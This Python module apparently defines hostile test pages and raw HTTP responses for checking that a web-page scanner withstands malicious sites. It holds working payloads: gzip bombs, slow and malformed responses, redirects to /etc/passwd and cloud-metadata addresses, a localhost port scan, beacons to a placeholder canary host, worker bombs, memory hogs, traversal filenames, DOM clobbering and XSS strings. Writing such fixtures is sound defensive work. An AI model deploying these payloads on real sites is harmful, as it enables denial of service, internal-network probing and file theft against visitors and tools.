"""The same words, told by somebody else: behaviours of the catalogue made in another way than `hostile_pages` makes them.

Another clock, another interface, inside a frame, a worker or a shadow tree, over another way of HTTP. Each is held to the row
of the behaviour whose name it begins with, so what is expected was written down before any of these were.
"""

import asyncio
import gzip
import zlib

from hostile_site import Asked, Handler, document

SECOND: dict[str, tuple[str, Handler]] = {}
HTML = "Content-Type: text/html; charset=utf-8"
FRAME = "const fresh = () => { const f = document.createElement('iframe'); f.title = 'ny'; document.body.append(f); return f.contentWindow };"


def second(of: str, how: str):
    """Registers a handler as another way of being `of`."""

    def register(handler: Handler) -> Handler:
        SECOND[f"{of}--{how}"] = (of, handler)
        return handler

    return register


def page(of: str, how: str, body: str = "", *lines: str, head: str = "", planted: bool = True) -> None:
    """A behaviour that is one page."""

    async def show(asked: Asked) -> None:
        if asked.path not in ("/", "/index.html"):
            await asked.answer("borta", status="404 Not Found", kind="text/plain")
            return
        text = document(f"{of} {how}", body, head, planted=planted)
        await asked.answer(asked.site.filled(text, asked), *(asked.site.filled(line, asked) for line in lines))

    second(of, how)(show)


def script(of: str, how: str, code: str, body: str = "", **options: str) -> None:
    page(of, how, f"{body}<script>{code}</script>", **options)


def worker(code: str) -> str:
    """Script that starts a worker with that code."""
    return f"new Worker(URL.createObjectURL(new Blob([{code!r}])));"


def raw(of: str, how: str, *chunks: bytes, hang: float = 0) -> None:
    """A behaviour that is some bytes."""

    async def show(asked: Asked) -> None:
        await asked.raw(*chunks)
        if hang:
            await asked.hang(hang)

    second(of, how)(show)


def redirect(of: str, how: str, target: str, status: str = "301 Moved Permanently") -> None:
    async def show(asked: Asked) -> None:
        await asked.redirect(asked.site.filled(target, asked), status)

    second(of, how)(show)


def plain(name: str) -> bytes:
    return document(name).encode()


# --- HTTP


@second("slow-headers", "whole-lines")
async def slow_header_lines(asked: Asked) -> None:
    await asked.raw(b"HTTP/1.1 200 OK\r\n")
    for number in range(400):
        await asked.raw(b"X-%d: y\r\n" % number)
        await asyncio.sleep(0.7)


@second("slow-body", "chunks")
async def slow_chunks(asked: Asked) -> None:
    await asked.head(HTML, "Transfer-Encoding: chunked")
    for byte in plain("slow-body") + b" " * 9000:
        await asked.raw(b"1\r\n", bytes([byte]), b"\r\n")
        await asyncio.sleep(0.4)


raw("stall-after-headers", "old-http", b"HTTP/1.0 200 OK\r\nContent-Type: text/html\r\n\r\n", hang=120)


@second("endless-body", "chunks")
async def endless_chunks(asked: Asked) -> None:
    await asked.head(HTML, "Transfer-Encoding: chunked")
    await asked.flood(b"8000\r\n" + b"<li>rad</li>\n" * 2520 + b"12345678\r\n")


@second("endless-body", "packed")
async def endless_packed(asked: Asked) -> None:
    packer = zlib.compressobj(1, wbits=31)
    await asked.head(HTML, "Content-Encoding: gzip")
    while True:
        await asked.raw(packer.compress(b"<p>rad</p>\n" * 6000) + packer.flush(zlib.Z_SYNC_FLUSH))


@second("endless-text-node", "in-script")
async def endless_script(asked: Asked) -> None:
    await asked.head(HTML)
    await asked.raw(b"<!doctype html><title>x</title><script>/*")
    await asked.flood(b"ord " * 16000)


raw("chunked-garbage", "negative", f"HTTP/1.1 200 OK\r\n{HTML}\r\nTransfer-Encoding: chunked\r\n\r\n-1\r\n".encode() + plain("x"))
raw("chunked-truncated", "no-end", f"HTTP/1.1 200 OK\r\n{HTML}\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n".encode()
    + f"{len(plain('x')) - 20:x}\r\n".encode() + plain("x")[:-20] + b"\r\n")  # fmt: skip
raw("content-length-too-long", "stays-open", f"HTTP/1.1 200 OK\r\n{HTML}\r\nContent-Length: {len(plain('x')) + 9}\r\n\r\n".encode() + plain("x"), hang=120)
raw("te-and-cl-conflict", "two-lengths", f"HTTP/1.1 200 OK\r\n{HTML}\r\nContent-Length: {len(plain('x'))}\r\nContent-Length: 7\r\nConnection: close\r\n\r\n".encode() + plain("x"))
raw("bad-status-line", "other-version", f"HTTP/2 200\r\n{HTML}\r\nContent-Length: 2\r\n\r\nok".encode())
raw("bad-status-line", "word", f"HTTP/1.1 OK 200\r\n{HTML}\r\nContent-Length: 2\r\n\r\nok".encode())
raw("status-999", "no-words", f"HTTP/1.1 999\r\n{HTML}\r\nConnection: close\r\n\r\n".encode() + plain("x"))
raw("http10", "kept-open", f"HTTP/1.0 200 OK\r\n{HTML}\r\nContent-Length: {len(plain('x'))}\r\nConnection: keep-alive\r\n\r\n".encode() + plain("x"), hang=30)
raw("empty-reply", "half-a-line", b"HTTP/1.")
raw("empty-200", "no-chunks", f"HTTP/1.1 200 OK\r\n{HTML}\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n0\r\n\r\n".encode())
raw("empty-200", "blanks", f"HTTP/1.1 200 OK\r\n{HTML}\r\nContent-Length: 3000\r\nConnection: close\r\n\r\n".encode() + b" \r\n" * 1000)
raw("status-204", "with-body", b"HTTP/1.1 204 No Content\r\nContent-Type: text/html\r\nContent-Length: 900\r\nConnection: close\r\n\r\n" + plain("x"))
raw("header-2mb", "folded", b"HTTP/1.1 200 OK\r\nX-Large: a" + b"\r\n  fortsatt" * 120_000 + b"\r\nContent-Length: 2\r\n\r\nok")


@second("header-flood", "cookies")
async def cookie_flood(asked: Asked) -> None:
    await asked.raw(b"HTTP/1.1 200 OK\r\n")
    for start in range(0, 100_000, 1000):
        await asked.raw(b"".join(b"Set-Cookie: c%d=%d\r\n" % (number, number) for number in range(start, start + 1000)))
    await asked.raw(f"{HTML}\r\nConnection: close\r\n\r\n".encode() + plain("x"))


@second("gzip-bomb", "deflate")
async def deflate_bomb(asked: Asked) -> None:
    packer = zlib.compressobj(9)
    out = packer.compress(b"<!doctype html><title>bomb</title><p>")
    out += b"".join(packer.compress(b"a" * 1048576) for _ in range(400)) + packer.flush()
    await asked.answer(out, "Content-Encoding: deflate")


@second("gzip-bomb", "members")
async def bomb_of_members(asked: Asked) -> None:
    member = gzip.compress(b"<p>" + b"b" * 16_000_000)
    await asked.head(HTML, "Content-Encoding: gzip", "Transfer-Encoding: chunked")
    for _ in range(30):
        await asked.raw(f"{len(member):x}\r\n".encode(), member, b"\r\n")
    await asked.raw(b"0\r\n\r\n")


@second("gzip-truncated", "whole-chunks")
async def gzip_cut_in_chunks(asked: Asked) -> None:
    packed = gzip.compress((document("gzip-truncated") + "<p>" + " ".join(str(i * i) for i in range(9000))).encode())
    part = packed[: len(packed) // 2]
    await asked.head(HTML, "Content-Encoding: gzip", "Transfer-Encoding: chunked")
    await asked.raw(f"{len(part):x}\r\n".encode(), part, b"\r\n0\r\n\r\n")


@second("reset-mid-body", "chunks")
async def reset_in_chunks(asked: Asked) -> None:
    await asked.head(HTML, "Transfer-Encoding: chunked")
    await asked.raw(f"{len(plain('x')):x}\r\n".encode(), plain("x"), b"\r\n")
    await asyncio.sleep(0.3)
    asked.reset()


@second("interim-storm", "continue")
async def continue_storm(asked: Asked) -> None:
    await asked.flood(b"HTTP/1.1 100 Continue\r\n\r\n" * 50)


@second("auth-basic", "digest-and-negotiate")
async def auth_others(asked: Asked) -> None:
    if "authorization" in asked.fields:
        asked.site.state_changes[asked.name] += 1
    await asked.answer("nej", "WWW-Authenticate: Negotiate", 'WWW-Authenticate: Digest realm="x", nonce="1"', status="401 Unauthorized")


@second("download-body", "no-length")
async def endless_download(asked: Asked) -> None:
    await asked.head("Content-Type: application/x-msdownload", "Transfer-Encoding: chunked")
    await asked.flood(b"8000\r\n" + b"M" * 0x8000 + b"\r\n", times=16384)


@second("traversal-filename", "extended")
async def traversal_extended(asked: Asked) -> None:
    await asked.answer(plain("x"), "Content-Disposition: attachment; filename*=UTF-8''..%2f..%2f..%2ftmp%2ftillsyn-owned.html", kind="text/html")


@second("html-as-octet", "attachment-only")
async def attachment_only(asked: Asked) -> None:
    await asked.answer(plain("x"), "Content-Disposition: ATTACHMENT", kind="application/force-download")


for how, kind, data in (
    ("in-meta", "text/html", document("kodad").replace('charset="utf-8"', 'charset="zlib_codec"').encode()),
    ("rot13", "text/html; charset=rot_13", plain("kodad")),
    ("punycode", "text/html; charset=punycode", plain("kodad")),
    ("undefined", "text/html; charset=undefined", plain("kodad")),
):

    async def encoded(asked: Asked, data: bytes = data, kind: str = kind) -> None:
        await asked.answer(data, kind=kind)

    second("charset-codec-bomb", how)(encoded)


@second("utf16-bom", "big-endian")
async def utf16_big_endian(asked: Asked) -> None:
    await asked.answer(b"\xfe\xff" + document("kodad").encode("utf-16-be"), kind="text/html; charset=utf-16")


@second("invalid-utf8", "overlong")
async def overlong(asked: Asked) -> None:
    await asked.answer(plain("kodad").replace(b"<p>", b"<p>\xc0\xbcscript\xc0\xbe\xf8\x88\x80\x80\x80"), kind="text/html; charset=utf-8")


# --- redirects

redirect("redirect-loop-self", "see-other", "/", "303 See Other")
redirect("redirect-to-file", "capitals", "FILE:///etc/passwd", "307 Temporary Redirect")
redirect("redirect-to-file", "host", "file://{{own}}/etc/passwd", "308 Permanent Redirect")
redirect("redirect-to-javascript", "tabs", "java\tscript:alert(1)")
redirect("redirect-to-ipv6-loopback", "long", "http://[0:0:0:0:0:0:0:1]:{{port}}/")
redirect("redirect-to-localhost-name", "dot", "http://LOCALHOST.:{{port}}/", "308 Permanent Redirect")
redirect("redirect-to-localhost-name", "below", "http://a.b.localhost:{{port}}/")
redirect("redirect-to-hex-ip", "mixed", "http://0x7f.0.0.0x1:{{port}}/")
redirect("redirect-to-octal-ip", "long", "http://00000177.0.0.01:{{port}}/")
redirect("redirect-to-decimal-ip", "two-parts", "http://127.16777215:{{port}}/")
redirect("redirect-to-zero", "short", "http://0:{{port}}/")
redirect("redirect-to-mapped-ipv6", "hex", "http://[::ffff:7f00:1]:{{port}}/")
redirect("redirect-to-mapped-ipv6", "compatible", "http://[::127.0.0.1]:{{port}}/")
redirect("redirect-to-metadata", "carrier", "http://100.100.100.200/")
redirect("redirect-to-metadata", "decimal", "http://2852039166/latest/")
redirect("redirect-to-private-10", "shared", "http://100.64.0.1/")
redirect("redirect-to-private-192", "benchmark", "http://198.18.0.1/")
redirect("redirect-to-ula", "nat64", "http://[64:ff9b::7f00:1]/")
redirect("redirect-to-ula", "six-to-four", "http://[2002:7f00:1::]/")
redirect("redirect-to-ula", "link-local", "http://[fe80::1]/")
redirect("redirect-to-userinfo", "encoded", "http://{{own}}%2f:x@{{canary}}/")
redirect("redirect-to-userinfo", "backslash", "http://{{canary}}\\@{{own}}/")
redirect("redirect-to-port-22", "mail", "http://{{own}}:25/")
redirect("redirect-to-port-22", "high", "http://{{own}}:6379/")
redirect("redirect-to-other-loopback", "slashes", "//{{off}}/")
redirect("redirect-offdomain", "slashes", "//{{other}}/", "308 Permanent Redirect")


@second("redirect-to-other-loopback", "after-own")
async def hop_first(asked: Asked) -> None:
    if asked.path == "/hopp":
        await asked.redirect(asked.site.filled("http://{{off}}/", asked), "308 Permanent Redirect")
    else:
        await asked.redirect("/hopp", "301 Moved Permanently")


@second("redirect-loop-pair", "with-cookies")
async def loop_with_cookies(asked: Asked) -> None:
    number = int(asked.query.get("n", "0") or 0)
    await asked.answer("", f"Set-Cookie: n={number}; path=/", f"Location: /?n={(number + 1) % 7}", status="302 Found")


@second("meta-refresh-loop", "replace")
async def replace_loop(asked: Asked) -> None:
    await asyncio.sleep(0.05)
    await asked.answer(document("loop", f"<script>location.replace('/?n={len(asked.site.asked[asked.name])}')</script>"))


page("meta-refresh-canary", "header", "", "Refresh: 0;url=http://{{canary}}/")
page("js-location-canary", "from-frame", "<iframe title='r' srcdoc=\"<script>top.location = 'http://{{canary}}/'</script>\"></iframe>")
script("js-location-canary", "link-and-form", "const a = document.createElement('a'); a.href = 'http://{{canary}}/'; document.body.append(a); a.click();"
       " const f = document.createElement('form'); f.action = 'http://{{canary}}/'; document.body.append(f); f.requestSubmit()")  # fmt: skip
script("js-location-schemes", "frames", "for (const u of ['file:///etc/passwd', 'chrome://crash', 'view-source:file:///etc/passwd', 'blob:x', 'filesystem:http://x/'])"
       " { const f = document.createElement('iframe'); f.title = u; f.src = u; document.body.append(f); open(u) }")  # fmt: skip

# --- what a page may try to reach

page("img-canary", "other-ways", '<picture><source srcset="http://{{canary}}/s.webp"><img alt="" loading="lazy" src="http://{{canary}}/l.png"></picture>'
     '<input type="image" alt="Sök" src="http://{{canary}}/i.png"><svg role="img" aria-label="x"><image href="http://{{canary}}/v.png"/><use href="http://{{canary}}/u.svg#a"/>'
     '<filter id="f"><feImage href="http://{{canary}}/f.png"/></filter><rect width="9" height="9" filter="url(#f)"/></svg>'
     "<script>new Image().src = 'http://{{canary}}/n.png'; fetch('http://{{canary}}/k', {keepalive: true, mode: 'no-cors'}).catch(() => 0)</script>")  # fmt: skip
script("fetch-canary", "while-leaving", "for (const n of ['pagehide', 'visibilitychange', 'beforeunload', 'unload', 'freeze']) addEventListener(n, () => {"
       " fetch('http://{{canary}}/', {method: 'POST', keepalive: true, mode: 'no-cors'}); navigator.sendBeacon('http://{{canary}}/b', 'x');"
       " fetch('/state/lamnar', {method: 'POST', keepalive: true}) })")  # fmt: skip
script("fetch-canary", "fetch-later", "try { fetchLater('http://{{canary}}/', {activateAfter: 0}); fetchLater('/state/senare', {activateAfter: 10}) } catch (e) {}")
script("worker-canary", "nested", worker("const u = URL.createObjectURL(new Blob([\"fetch('http://{{canary}}/', {method: 'POST', mode: 'no-cors'}).catch(() => 0);"
       " fetch('http://{{own}}/state/arbetare', {method: 'POST', mode: 'no-cors'}).catch(() => 0); new EventSource('http://{{canary}}/e')\"])); new Worker(u)"))  # fmt: skip
script("worker-canary", "modules", "new Worker('data:text/javascript,import \"http://{{canary}}/m.js\"', {type: 'module'}); import('http://{{canary}}/d.js').catch(() => 0);"
       " CSS.paintWorklet?.addModule('http://{{canary}}/p.js').catch(() => 0); new OfflineAudioContext(1, 9, 44100).audioWorklet.addModule('http://{{canary}}/a.js').catch(() => 0)")  # fmt: skip
script("sharedworker-canary", "fresh-window", FRAME + "try { new (fresh().SharedWorker)('data:text/javascript,fetch(\"http://{{canary}}/\", {method: \"POST\", mode: \"no-cors\"});"
       "fetch(\"http://{{own}}/state/delad\", {method: \"POST\", mode: \"no-cors\"})') } catch (e) {}")  # fmt: skip
script("webrtc-stun-canary", "fresh-window", FRAME + "for (const w of [fresh(), fresh()]) for (const at of ['{{udp}}', '{{udpout}}']) try { const p = new (w.RTCPeerConnection ||"
       " w.webkitRTCPeerConnection)({iceServers: [{urls: 'stun:' + at}]}); p.createDataChannel('x'); p.createOffer().then(o => p.setLocalDescription(o)) } catch (e) {}")  # fmt: skip
page("webrtc-stun-canary", "sandboxed-frame", "<iframe title='r' sandbox='allow-scripts' srcdoc=\"<script>try { const p = new RTCPeerConnection({iceServers: [{urls: 'stun:{{udpout}}'},"
     " {urls: 'stun:{{udp}}'}]}); p.createDataChannel('x'); p.createOffer().then(o => p.setLocalDescription(o)) } catch (e) {}</script>\"></iframe>")  # fmt: skip
script("webtransport-canary", "worker", worker("for (const at of ['{{udp}}', '{{udpout}}']) try { new WebTransport('https://' + at + '/') } catch (e) {}"))
script("webtransport-canary", "fresh-window", FRAME + "const w = fresh(); for (const at of ['{{udp}}', '{{udpout}}']) try { new w.WebTransport('https://' + at + '/') } catch (e) {}")
script("websocket-canary", "worker-and-stream", worker("try { new WebSocket('ws://{{canary}}/') } catch (e) {} try { new WebSocketStream('ws://{{canary}}/') } catch (e) {}")
       + FRAME + "try { new (fresh().WebSocket)('ws://{{local}}/') } catch (e) {}")  # fmt: skip
page("speculation-canary", "document-rules", '<a href="http://{{canary}}/regel">länk</a><script type="speculationrules">{"prerender": [{"where": {"href_matches": "/*"}, "eagerness": "immediate"}],'
     ' "prefetch": [{"where": {"href_matches": "http://*"}, "eagerness": "immediate"}]}</script>')  # fmt: skip
page("csp-report-canary", "network-errors", '<img alt="" src="http://{{foreign}}/x.png">', 'Report-To: {"group": "g", "max_age": 99, "endpoints": [{"url": "http://{{canary}}/n"}]}',
     'NEL: {"report_to": "g", "max_age": 99, "success_fraction": 1}', "Content-Security-Policy-Report-Only: img-src 'none'; report-to g; report-uri http://{{canary}}/u")  # fmt: skip
script("css-canary", "by-script", "const s = new CSSStyleSheet(); s.replaceSync('@font-face { font-family: g; src: url(http://{{canary}}/g.woff) } p { font-family: g; mask: url(http://{{canary}}/m.svg);"
       " background: image-set(\"http://{{canary}}/i.png\" 1x); content: url(http://{{canary}}/c.png) }'); document.adoptedStyleSheets = [s];"
       " new FontFace('h', 'url(http://{{canary}}/h.woff)').load().catch(() => 0); const d = document.body.appendChild(document.createElement('div'));"
       " d.attachShadow({mode: 'closed'}).innerHTML = '<style>@import url(http://{{canary}}/s.css);</style><p>skugga</p>'")  # fmt: skip
script("preconnect-canary", "by-script", "for (const rel of ['preconnect', 'dns-prefetch', 'prefetch', 'preload', 'prerender', 'next', 'modulepreload', 'stylesheet', 'icon', 'apple-touch-icon'])"
       " { const l = document.createElement('link'); l.rel = rel; l.as = 'image'; l.href = 'http://{{canary}}/' + rel; document.head.append(l) }")  # fmt: skip
script("popup-canary", "fresh-window", FRAME + "fresh().open('http://{{canary}}/p'); const f = document.createElement('form'); f.target = '_blank'; f.action = 'http://{{canary}}/f';"
       " document.body.append(f); f.submit(); open('about:blank')?.location?.replace?.('http://{{canary}}/o')")  # fmt: skip
script("form-target-canary", "fresh-prototype", FRAME + "const f = document.createElement('form'); f.method = 'post'; f.action = 'http://{{canary}}/'; f.target = 't'; document.body.append(f);"
       " fresh().HTMLFormElement.prototype.submit.call(f); f.action = '/state/ny'; fresh().HTMLFormElement.prototype.submit.call(f)", '<iframe title="t" name="t"></iframe>')  # fmt: skip
page("ping-canary", "map", '<map name="m"><area id="a" ping="http://{{canary}}/ http://{{own}}/state/ping" href="#x" alt="x" shape="rect" coords="0,0,9,9"></map><img alt="" usemap="#m" src="/pixel.png">'
     '<script>document.getElementById("a").click()</script>')  # fmt: skip
script("metadata-fetch", "other-spellings", "for (const u of ['http://2852039166/', 'http://0xa9fea9fe/', 'http://[::ffff:a9fe:a9fe]/', 'http://169.254.169.254.:80/', 'http://instance-data/'])"
       " { fetch(u, {mode: 'no-cors'}).catch(() => 0); const i = document.createElement('iframe'); i.title = u; i.src = u; document.body.append(i) }")  # fmt: skip
script("port-scan", "pictures", "for (const p of [{{port}}, 9222, 22, 6000]) for (const h of ['127.0.0.1', '[::1]', 'localhost', '0.0.0.0', '127.0.0.66']) { new Image().src = `http://${h}:${p}/`;"
       " const s = document.createElement('script'); s.src = `http://${h}:${p}/s.js`; document.head.append(s); try { new EventSource(`http://${h}:${p}/e`) } catch (e) {} }")  # fmt: skip

# --- scripts

page("infinite-loop", "in-attribute", '<img alt="" src="/pixel.png" onload="for (;;);">')
script("infinite-loop", "generator", "const g = function* () { for (;;) yield 1 }; for (const x of g()) if (x === 2) break")
script("infinite-loop-late", "when-seen", "new IntersectionObserver(() => setTimeout(() => { while (true) ; }, 400)).observe(document.body)")
script("infinite-microtask", "observer", "const p = document.querySelector('p'); new MutationObserver(() => { p.title = Math.random() }).observe(p, {attributes: true}); p.title = 'x'")
script("infinite-microtask", "async-function", "(async () => { for (;;) await 0 })()")
script("alert-forever", "fresh-windows", FRAME + "for (;;) { const w = fresh(); w.alert('hej'); w.frameElement.remove() }")
script("confirm-prompt", "fresh-window", FRAME + "const w = fresh(); if (w.confirm('Radera?')) fetch('/state/confirm'); if (w.prompt('Namn?', 'x')) fetch('/state/prompt')")
script("window-open-storm", "fresh-windows", FRAME + "setInterval(() => { const w = fresh(); for (let i = 0; i < 20; i++) w.open('/state/popup?' + i); w.frameElement.remove() }, 20)")
page("beforeunload", "in-frame", "<iframe title='r' srcdoc=\"<script>addEventListener('beforeunload', e => { e.preventDefault(); e.returnValue = 'x' }); onunload = () => { for (;;); }</script>\"></iframe>")
script("memory-hog", "doubling", "let s = 'x'; for (;;) { s = JSON.stringify([s, s]); self.keep = (self.keep || []).concat([s.split('').slice(0, 1e6)]) }")
script("memory-hog-buffers", "workers", "for (let i = 0; i < 10; i++) " + worker("const a = []; setInterval(() => { const b = new Uint8Array(32e6); b.fill(1); a.push(b) }, 5)"))
script("memory-hog-buffers", "pictures", "const a = []; setInterval(() => { const c = document.createElement('canvas'); c.width = c.height = 4000; const x = c.getContext('2d');"
       " x.fillRect(0, 0, 9, 9); a.push(x.getImageData(0, 0, 4000, 4000)) }, 5)")  # fmt: skip
script("worker-bomb", "nested", "const code = 'for (let i = 0; i < 4; i++) new Worker(URL.createObjectURL(new Blob([self.name])), {name: self.name}); for (;;);';"
       " for (let i = 0; i < 8; i++) new Worker(URL.createObjectURL(new Blob([code])), {name: code})")  # fmt: skip
script("console-flood", "worker", worker("setInterval(() => { for (let i = 0; i < 2000; i++) console.error('rad ' + i, {i}, new Error('x')) }, 1)"))
script("error-flood", "rejections", "setInterval(() => { for (let i = 0; i < 200; i++) Promise.reject(new Error('fel ' + i)) }, 1)")
script("error-flood", "worker", worker("setInterval(() => { for (let i = 0; i < 200; i++) setTimeout(() => { throw new Error('fel ' + i) }) }, 1)"))
script("pushstate-storm", "navigation", "let n = 0; setInterval(() => { for (let i = 0; i < 50; i++) try { navigation.navigate('#' + n++, {history: 'push'}).committed.catch(() => 0) } catch (e) {} }, 5)")
script("navigate-during-audit", "by-link", "setTimeout(() => { const a = document.createElement('a'); a.href = '/annan'; document.body.append(a); a.click() }, 1200)")
script("document-open-wipe", "replace", "setTimeout(() => { document.documentElement.replaceWith(document.createElement('html')) }, 900)")
script("mutate-constantly", "styles", "let n = 0; setInterval(() => { document.body.className = 'k' + n++; document.body.style.paddingTop = n % 7 + 'px'; document.title = 'x' + n }, 1)")
script("remove-during-audit", "shuffle", "setInterval(() => { const r = document.querySelector('#r'); r.append(r.firstElementChild); r.insertBefore(r.lastElementChild.cloneNode(true), r.children[5]);"
       " r.children[9].remove() }, 1)", '<div id="r">' + "<b>ord</b> " * 2000 + "</div>")  # fmt: skip
script("download-onload", "blob", "const a = document.createElement('a'); a.download = '../../tillsyn-owned.html'; a.href = URL.createObjectURL(new Blob(['x'])); document.body.append(a); a.click();"
       " a.href = 'data:application/octet-stream,x'; a.click()")  # fmt: skip
script("websocket-flood", "worker", worker("setInterval(() => { for (let i = 0; i < 100; i++) try { new WebSocket('ws://{{own}}/w' + i) } catch (e) {} }, 20)"))
page("blocking-script", "module", head='<script>document.write(\'<scr\' + \'ipt src="/hang"></scr\' + \'ipt>\')</script>')
page("blocking-css", "import", head="<style>@import url(/hang);</style>")
page("blocking-font", "by-script", "<script>document.fonts.add(new FontFace('x', 'url(/hang)')); document.fonts.forEach(f => f.load()); document.body.style.fontFamily = 'x'</script>")
page("focus-trap", "dialog", "<dialog id=d aria-label=d><input id=f aria-label=f></dialog><script>d.show(); f.focus(); addEventListener('keydown', e => { e.preventDefault(); e.stopImmediatePropagation() }, true);"
     " d.addEventListener('cancel', e => e.preventDefault()); document.addEventListener('focusout', () => f.focus())</script>")  # fmt: skip
script("print-onload", "fresh-window", FRAME + "fresh().print(); setInterval(() => fresh().print(), 500)")
script("permissions", "fresh-window", FRAME + "const w = fresh(); w.navigator.geolocation.getCurrentPosition(() => fetch('/state/geo'), () => 0); w.Notification?.requestPermission?.().then(p => p === 'granted' && fetch('/state/n'))")
script("custom-element-throws", "everywhere", "customElements.define('x-b', class extends HTMLElement { static observedAttributes = ['class']; attributeChangedCallback() { throw 1 } get innerText() { throw 2 }"
       " get children() { throw 3 } get parentNode() { throw 4 } getBoundingClientRect() { throw 5 } getAttribute() { throw 6 } disconnectedCallback() { throw 7 } })", "<x-b class=a>text</x-b>" * 9)  # fmt: skip


def flood(of: str, how: str, code: str) -> None:
    async def show(asked: Asked) -> None:
        if asked.path == "/":
            await asked.answer(asked.site.filled(document(of, f"<script>{code}</script>"), asked))
        else:
            await asked.answer("<!doctype html><title>x</title>", kind="text/html")

    second(of, how)(show)


flood("fetch-flood", "pictures", "let n = 0; setInterval(() => { for (let i = 0; i < 100; i++) new Image().src = '/f' + n++ }, 5)")
flood("fetch-flood", "worker", worker("let n = 0; setInterval(() => { for (let i = 0; i < 100; i++) fetch('http://{{own}}/f' + n++, {mode: 'no-cors'}).catch(() => 0) }, 5)"))
flood("iframe-reload-loop", "location", FRAME + "const w = fresh(); let n = 0; setInterval(() => { w.location.href = '/r' + n++ }, 5)")
flood("reload-loop", "history", "history.go(0)")
flood("hash-loop", "frame", FRAME + "const w = fresh(); w.location.href = '/r'; let n = 0; setInterval(() => { try { w.location.hash = n++ } catch (e) {} }, 1)")

# --- state, text, deceit, frames, forms


@second("cookie-isolation", "storage")
async def stored(asked: Asked) -> None:
    code = ("if (localStorage.seen || sessionStorage.seen || window.name === 'seen') fetch('/state/lagrat'); localStorage.seen = sessionStorage.seen = 1; window.name = 'seen';"
            " indexedDB.databases().then(l => l.some(d => d.name === 'seen') && fetch('/state/idb')).then(() => indexedDB.open('seen'))")  # fmt: skip
    await asked.answer(document("isolation", f"<script>{code}</script>"))


@second("service-worker", "from-frame")
async def worker_from_frame(asked: Asked) -> None:
    if asked.path == "/sw.js":
        asked.site.state_changes[asked.name] += 1
        await asked.answer("self.onfetch = e => e.respondWith(new Response('x'))", kind="text/javascript")
    else:
        body = "<iframe title='r' src='/ram'></iframe>" if asked.path == "/" else "<script>navigator.serviceWorker?.register('/sw.js', {type: 'module'}).catch(() => 0)</script>"
        await asked.answer(document("sw", body, planted=asked.path == "/"))


script("storage-fill", "caches", "caches.open('x').then(async c => { for (let i = 0; i < 400; i++) await c.put('/' + i, new Response('x'.repeat(5e6))) }).catch(() => 0);"
       " navigator.storage.getDirectory?.().then(async d => { const f = await d.getFileHandle('x', {create: true}), w = await f.createWritable(); for (;;) await w.write('x'.repeat(5e6)) }).catch(() => 0)")  # fmt: skip
script("lone-surrogate", "in-attributes", "const p = document.querySelector('p'), i = document.querySelector('img'); for (const n of ['class', 'title', 'aria-label', 'data-x', 'lang', 'id'])"
       " p.setAttribute(n, 'halv \\uD800'); i.setAttribute('class', '\\uDFFF'); i.id = 'b\\uD83D'; const a = document.createElement('a'); a.href = '/\\uD800'; a.textContent = '\\uDC00'; document.body.append(a);"
       " console.error('\\uD800'); setTimeout(() => { throw new Error('\\uDC00') })")  # fmt: skip
script("title-1mb", "everywhere", "const s = 'ö'.repeat(2e6); document.title = s; const i = document.querySelector('img'); i.title = ''; i.className = s; document.querySelector('p').setAttribute('aria-label', s); console.log(s)")
page("xss-title", "nested", head="<title></title><meta name=description content='\"><script>1</script>'>", body="<svg><title>&lt;script&gt;window.__owned=1&lt;/script&gt;</title></svg><noscript><p title=\"</noscript><img src=x onerror=1>\"></noscript>")
script("override-array", "after-load", "addEventListener('load', () => { for (const n of Object.getOwnPropertyNames(Array.prototype)) try { if (n !== 'length') Array.prototype[n] = () => { throw 1 } } catch (e) {} })")
script("override-qsa", "own-properties", "for (const n of ['querySelectorAll', 'querySelector', 'getElementsByTagName', 'getElementById', 'createElement', 'evaluate', 'createTreeWalker', 'elementsFromPoint'])"
       " document[n] = () => []; Object.defineProperty(document, 'documentElement', {get: () => null}); Object.defineProperty(document, 'body', {get: () => null})")  # fmt: skip
script("override-promise", "thenable", "Object.defineProperty(Object.prototype, 'then', {get() { return undefined }, set() {}}); Promise.resolve = Promise.all = Promise.reject = () => { throw 1 }; Symbol.species; Promise.prototype.finally = null")
script("override-style", "throws", "getComputedStyle = () => { throw 1 }; CSSStyleDeclaration.prototype.getPropertyValue = () => { throw 2 }; Element.prototype.getClientRects = Element.prototype.getBoundingClientRect = () => { throw 3 }")
page("dom-clobber", "document", '<form name="createElement"><input name="ownerDocument"><input name="tagName"><input name="localName"><input name="shadowRoot"><input name="classList"><input name="style">'
     '<input name="hasAttribute"><input name="matches"><input name="closest"><input name="firstChild"><input name="nodeType"></form><form name="documentElement"></form><img name="querySelectorAll" alt="" src="/pixel.png">'
     '<form name="body" id="defaultView"><input name="length"><input name="elements"></form><object name="location" id="axe" aria-label="o"></object>')  # fmt: skip
page("csp-sandbox", "with-scripts", "", "Content-Security-Policy: sandbox allow-scripts")
page("csp-meta", "everything", head='<meta http-equiv="Content-Security-Policy" content="default-src \'none\'; img-src \'self\'; require-trusted-types-for \'script\'; frame-src \'none\'; base-uri \'none\'">')
page("hide-from-scanner", "main", head="<script>addEventListener('load', () => { for (const e of document.body.children) e.setAttribute('aria-hidden', 'true') })</script>", planted=True)
page("display-none-page", "other-ways", head="<style>html { visibility: hidden; opacity: 0 } main { content-visibility: hidden; clip-path: inset(50%) }</style>")
script("detect-axe", "by-time", "let last = performance.now(); setInterval(() => { const now = performance.now(); if (now - last > 900) document.querySelectorAll('img').forEach(i => i.title = 'sedd'); last = now }, 50);"
       " new PerformanceObserver(() => 0).observe({type: 'longtask'}); const real = Error.prepareStackTrace; Error.prepareStackTrace = (e, f) => { window.__seen = f; return '' }")  # fmt: skip
page("iframe-loop-cross", "opaque", "<iframe title='l' sandbox='allow-scripts' srcdoc=\"<script>setTimeout(() => { for (;;); }, 300)</script>\"></iframe>")
script("iframe-nested-50", "by-script", "let at = document; for (let i = 0; i < 50; i++) { const f = at.createElement('iframe'); f.title = i; at.body.append(f); at = f.contentDocument }")
script("iframe-hang", "late", "setTimeout(() => { for (const u of ['/hang', 'http://{{foreign}}/hang']) { const f = document.createElement('iframe'); f.title = u; f.src = u; document.body.append(f) } }, 300)")
page("shadow-open", "declarative", "<div><template shadowrootmode='open'><img src=/pixel.png></template></div><div><template shadowrootmode='open'><section><img src=/pixel.png></section></template></div>", planted=False)
page("shadow-closed", "declarative", "<div><template shadowrootmode='closed'><img src=/pixel.png></template></div>")
